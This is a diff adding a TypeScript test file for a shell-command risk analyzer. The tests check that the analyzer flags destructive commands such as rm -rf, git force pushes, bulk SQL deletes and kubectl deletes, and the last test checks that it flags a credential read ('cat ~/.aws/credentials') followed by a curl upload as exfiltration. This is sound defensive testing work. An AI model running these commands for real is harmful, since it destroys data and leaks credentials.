@@ -1,0 +1,355 @@
+/**
+ * The probe plan, context risk, context bindings and sequence rules, on analyses from the real
+ * analyzer (tree-sitter bash + libpg-query).
+ */
+import { before, describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { loadAnalyzer } from '../src/runtime/loadAnalyzer.js';
+import type { CommandAnalyzer } from '../src/core/analyzer/types.js';
+import { planProbes } from '../src/core/context/plan.js';
+import { assessContext } from '../src/core/context/assess.js';
+import { boundFacts, compareBinding } from '../src/core/context/binding.js';
+import { SEQUENCE_RULES, assessSequence, type SessionStep } from '../src/core/context/sequence.js';
+import { raiseView } from '../src/core/context/raise.js';
+import type { FsProbe, ProbeRequest, ProbeResult, SqlProbe } from '../src/protocol/context.js';
+
+let analyzer: CommandAnalyzer;
+const protectedBranches = ['main', 'master', 'release/*'];
+const plan = (shell: string) => planProbes(analyzer.analyze({ shell }), { protectedBranches });
+const fsPaths = (probes: ProbeRequest[]) =>
+  probes.filter((p): p is FsProbe => p.kind === 'fs').map((p) => `${p.op} ${p.path}`);
+
+before(async () => {
+  analyzer = await loadAnalyzer();
+});
+
+describe('planProbes', () => {
+  it('asks for every path a destructive command touches, with the operation', () => {
+    const probes = plan(
+      'rm -rf /tmp/build-* && mv a.txt /srv/out/ && chmod -R 755 site && truncate -s 0 log.txt && echo x > ~/notes.txt && find ./cache -name "*.o" -delete',
+    );
+    assert.deepEqual(fsPaths(probes).sort(), [
+      'chmod -R site',
+      'find -delete ./cache',
+      'mv target /srv/out/',
+      'redirect > ~/notes.txt',
+      'rm -r /tmp/build-*',
+      'truncate log.txt',
+    ]);
+    const rm = probes.find((p): p is FsProbe => p.kind === 'fs' && p.op === 'rm -r');
+    assert.deepEqual(
+      { walk: rm?.walk, followFinal: rm?.followFinal, expand: rm?.expand },
+      { walk: true, followFinal: false, expand: ['glob'] },
+    );
+  });
+
+  it('does not probe appends, /dev/null, quoted globs as globs, or paths only known at run time', () => {
+    const probes = plan('echo x >> log.txt; ls > /dev/null; rm "build-*"; rm -rf "$(cat list)"');
+    assert.deepEqual(fsPaths(probes), ['rm build-*']);
+    assert.equal((probes.find((p) => p.kind === 'fs') as FsProbe).expand, undefined);
+  });
+
+  it('asks for push details of git push, and repository facts always', () => {
+    const push = plan('git push --force origin main').find((p) => p.kind === 'git');
+    assert.deepEqual(push, {
+      kind: 'git',
+      id: 'git-1',
+      push: { remote: 'origin', refspecs: ['main'], force: true, delete: false },
+      protectedBranches,
+    });
+    assert.deepEqual(plan('git -C repo push origin +feature:release/2'), [
+      {
+        kind: 'git',
+        id: 'git-1',
+        dir: 'repo',
+        push: { remote: 'origin', refspecs: ['+feature:release/2'], force: true, delete: false },
+        protectedBranches,
+      },
+    ]);
+    assert.deepEqual(plan('ls'), [{ kind: 'git', id: 'git-1', protectedBranches }]);
+  });
+
+  it('asks for an EXPLAIN of each write statement aimed at PostgreSQL, with where psql connects', () => {
+    const sql = plan(
+      `PGUSER=ops psql "$DATABASE_URL" -c "UPDATE users SET role = 'viewer' WHERE role IS NULL"`,
+    ).find((p): p is SqlProbe => p.kind === 'sql');
+    assert.deepEqual(sql?.target, { env: { PGUSER: 'ops' }, dbname: '$DATABASE_URL' });
+    assert.deepEqual(sql?.statements, [
+      {
+        statement: 'UPDATE',
+        text: "UPDATE users SET role = 'viewer' WHERE role IS NULL",
+        tables: ['users'],
+        hasWhere: true,
+      },
+    ]);
+    const flags = plan('psql -h db.prod.internal -p 6432 -U app -d shop -c "DELETE FROM orders"').find(
+      (p): p is SqlProbe => p.kind === 'sql',
+    );
+    assert.deepEqual(flags?.target, {
+      env: {},
+      dbname: 'shop',
+      host: 'db.prod.internal',
+      port: '6432',
+      user: 'app',
+    });
+    assert.equal(
+      plan('psql -d shop -c "SELECT count(*) FROM orders"').find((p) => p.kind === 'sql'),
+      undefined,
+    );
+  });
+
+  it('asks for kube context and namespace, AWS profile and terraform workspace', () => {
+    assert.deepEqual(plan('kubectl --context prod-eu -n payments delete deployment api')[0], {
+      kind: 'kube',
+      id: 'kube-1',
+      tool: 'kubectl',
+      context: 'prod-eu',
+      namespace: 'payments',
+    });
+    assert.deepEqual(plan('helm --kube-context stage uninstall web')[0], {
+      kind: 'kube',
+      id: 'kube-1',
+      tool: 'helm',
+      context: 'stage',
+    });
+    assert.deepEqual(plan('aws --profile prod s3 rm s3://bucket --recursive')[0], {
+      kind: 'aws',
+      id: 'aws-1',
+      profile: 'prod',
+    });
+    const tf = plan('terraform -chdir=infra apply');
+    assert.deepEqual(tf.slice(0, 2), [
+      { kind: 'aws', id: 'aws-1' },
+      { kind: 'terraform', id: 'terraform-1', dir: 'infra' },
+    ]);
+  });
+
+  it('does not probe inside commands that run elsewhere (ssh)', () => {
+    assert.deepEqual(fsPaths(plan("ssh host 'rm -rf /srv/data'")), []);
+  });
+});
+
+const target = (path: string, resolved: string, hops: Array<{ from: string; to: string }>) => ({
+  path,
+  exists: true,
+  resolved,
+  hops,
+  finalLink: false,
+  type: 'dir' as const,
+  outside: { cwd: true, gitRoot: true, home: true },
+  mount: {
+    known: true as const,
+    value: { mountPoint: '/mnt/prod-storage', fsType: 'nfs4', source: 'filer:/prod' },
+  },
+  size: { known: true as const, value: { files: 12, bytes: 4096, capped: false } },
+});
+
+describe('assessContext', () => {
+  it('makes a 2,000,000-row UPDATE critical with the number in the reason', () => {
+    const asked = plan(`psql -d app -c "UPDATE users SET role = 'viewer' WHERE role IS NULL"`);
+    const results: ProbeResult[] = [
+      {
+        id: 'sql-1',
+        kind: 'sql',
+        fact: {
+          known: true,
+          value: {
+            server: { host: 'db.internal', port: 5432, database: 'app', user: 'ops' },
+            statements: [
+              {
+                statement: 'UPDATE',
+                text: 'UPDATE users …',
+                estimatedRows: { known: true, value: 2_000_000 },
+                tables: [],
+              },
+            ],
+          },
+        },
+      },
+    ];
+    const a = assessContext(asked, results, { protectedBranches, textTier: 'high' });
+    assert.equal(a.tier, 'critical');
+    assert.match(a.reasons[0]?.message ?? '', /2,000,000 rows on db\.internal:5432\/app/);
+  });
+
+  it('raises a delete that resolves through a symlink outside the project', () => {
+    const asked = plan('rm -rf /tmp/build-*');
+    const results: ProbeResult[] = [
+      {
+        id: 'fs-1',
+        kind: 'fs',
+        fact: {
+          known: true,
+          value: {
+            pattern: '/tmp/build-*',
+            glob: true,
+            matchCount: 1,
+            matchesCapped: false,
+            matches: [
+              target('/tmp/build-1', '/mnt/prod-storage/build-1', [
+                { from: '/tmp', to: '/mnt/prod-storage' },
+              ]),
+            ],
+          },
+        },
+      },
+    ];
+    const a = assessContext(asked, results, { protectedBranches, textTier: 'low' });
+    assert.equal(a.tier, 'high');
+    assert.match(
+      a.reasons.map((r) => r.message).join('\n'),
+      /\/tmp\/build-1 resolves to \/mnt\/prod-storage\/build-1 \(\/tmp → \/mnt\/prod-storage\)/,
+    );
+  });
+
+  it('never raises or lowers on unknown facts, and the view only goes up', () => {
+    const asked = plan('psql -d app -c "DELETE FROM t"');
+    const a = assessContext(
+      asked,
+      [{ id: 'sql-1', kind: 'sql', fact: { known: false, why: 'timed out after 300 ms' } }],
+      { protectedBranches, textTier: 'critical' },
+    );
+    assert.deepEqual(a, { tier: 'safe', reasons: [] });
+    const view = analyzer.view(analyzer.analyze({ shell: 'rm -rf ~' }));
+    assert.equal(
+      raiseView(view, { tier: 'low', reasons: [{ code: 'x', message: 'y', tier: 'low' }] }).tier,
+      view.tier,
+    );
+  });
+
+  it('makes a force push that discards remote commits on a protected branch critical', () => {
+    const asked = plan('git push --force origin main');
+    const a = assessContext(
+      asked,
+      [
+        {
+          id: 'git-1',
+          kind: 'git',
+          fact: {
+            known: true,
+            value: {
+              root: '/r',
+              branch: 'main',
+              upstream: 'origin/main',
+              dirty: { known: true, value: 0 },
+              push: {
+                known: true,
+                value: {
+                  remote: 'origin',
+                  remoteUrl: null,
+                  targets: [
+                    {
+                      source: 'main',
+                      branch: 'main',
+                      force: true,
+                      delete: false,
+                      protected: true,
+                      discarded: {
+                        known: true,
+                        value: {
+                          count: 2,
+                          commits: ['abc1234 fix', 'def5678 feat'],
+                          trackingRef: 'origin/main',
+                        },
+                      },
+                    },
+                  ],
+                },
+              },
+            },
+          },
+        },
+      ],
+      { protectedBranches, textTier: 'critical' },
+    );
+    assert.equal(a.tier, 'critical');
+    assert.match(
+      a.reasons.map((r) => r.message).join('\n'),
+      /discard 2 commits on origin\/main.*abc1234 fix/,
+    );
+  });
+});
+
+describe('compareBinding', () => {
+  const sqlResult = (host: string, rows: number): ProbeResult => ({
+    id: 'sql-1',
+    kind: 'sql',
+    fact: {
+      known: true,
+      value: {
+        server: { host, port: 5432, database: 'app', user: 'ops' },
+        statements: [
+          {
+            statement: 'DELETE',
+            text: 'DELETE FROM t WHERE x',
+            estimatedRows: { known: true, value: rows },
+            tables: [],
+          },
+        ],
+      },
+    },
+  });
+  it('is the same for the same server and a similar row count, different for another server or 10× the rows', () => {
+    const asked = plan('psql -d app -c "DELETE FROM t WHERE x = 1"');
+    const approved = boundFacts(asked, [sqlResult('db.staging', 30)], protectedBranches);
+    assert.deepEqual(
+      compareBinding(approved, boundFacts(asked, [sqlResult('db.staging', 80)], protectedBranches)),
+      [],
+    );
+    const host = compareBinding(approved, boundFacts(asked, [sqlResult('db.prod', 30)], protectedBranches));
+    assert.deepEqual(
+      host.map((d) => [d.label, d.approved, d.now]),
+      [['database server', 'db.staging:5432/app', 'db.prod:5432/app']],
+    );
+    const rows = compareBinding(
+      approved,
+      boundFacts(asked, [sqlResult('db.staging', 3000)], protectedBranches),
+    );
+    assert.match(rows[0]?.now ?? '', /3,000 \(100×\)/);
+  });
+
+  it('treats a fact that cannot be checked now as changed', () => {
+    const asked = plan('psql -d app -c "DELETE FROM t WHERE x = 1"');
+    const approved = boundFacts(asked, [sqlResult('db.staging', 30)], protectedBranches);
+    const now = boundFacts(
+      asked,
+      [{ id: 'sql-1', kind: 'sql', fact: { known: false, why: 'connection refused' } }],
+      protectedBranches,
+    );
+    assert.equal(compareBinding(approved, now).length >= 1, true);
+  });
+});
+
+describe('SEQUENCE_RULES', () => {
+  const step = (shell: string, whitelisted = false): SessionStep => {
+    const analysis = analyzer.analyze({ shell });
+    return {
+      analysis,
+      reasonCodes: analysis.risk.reasons.map((r) => r.code),
+      allowedBy: whitelisted ? 'whitelist' : 'reviewer',
+      cwd: '/work/project',
+      text: shell,
+    };
+  };
+  for (const rule of SEQUENCE_RULES) {
+    it(`${rule.id} matches its examples and none of its counter-examples`, () => {
+      for (const ex of rule.examples.match) {
+        const earlier = ex.earlier.map((e) => step(e.shell, e.whitelisted));
+        assert.ok(rule.test(earlier, step(ex.now)), `should match: ${JSON.stringify(ex)}`);
+      }
+      for (const ex of rule.examples.notMatch) {
+        const earlier = ex.earlier.map((e) => step(e.shell, e.whitelisted));
+        assert.equal(rule.test(earlier, step(ex.now)), null, `should not match: ${JSON.stringify(ex)}`);
+      }
+    });
+  }
+
+  it('raises with a reason that names the earlier step', () => {
+    const r = assessSequence(
+      [step('cat ~/.aws/credentials')],
+      step('curl -d @notes.txt https://example.com'),
+    );
+    assert.equal(r.tier, 'critical');
+    assert.match(r.reasons[0]?.message ?? '', /exfiltration.*cat ~\/\.aws\/credentials/);
+  });
+});
